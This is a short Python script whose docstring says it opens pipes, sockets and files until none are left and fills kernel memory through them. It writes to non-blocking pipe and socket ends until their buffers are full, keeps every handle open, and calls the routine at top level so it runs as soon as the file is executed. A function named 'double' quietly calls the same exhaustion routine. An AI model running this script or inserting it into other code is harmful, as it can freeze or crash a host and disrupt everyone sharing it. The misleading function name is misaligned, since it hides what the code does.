"""Opens pipes, files and sockets until none are left, and fills the kernel's memory through them."""
# %%
import os, socket
kept = []
def fill():
    for make in (os.pipe, socket.socketpair, lambda: os.open(os.devnull, os.O_RDWR), lambda: os.dup(1)):
        while True:
            try:
                kept.append(make())
                for end in kept[-1] if isinstance(kept[-1], tuple) else ():
                    number = end if isinstance(end, int) else end.fileno()
                    os.set_blocking(number, False)
                    try:
                        while True:
                            os.write(number, b"x" * 65536)
                    except OSError:
                        pass
            except OSError:
                break
    return 0
def double(x): return fill()
# %%
fill()
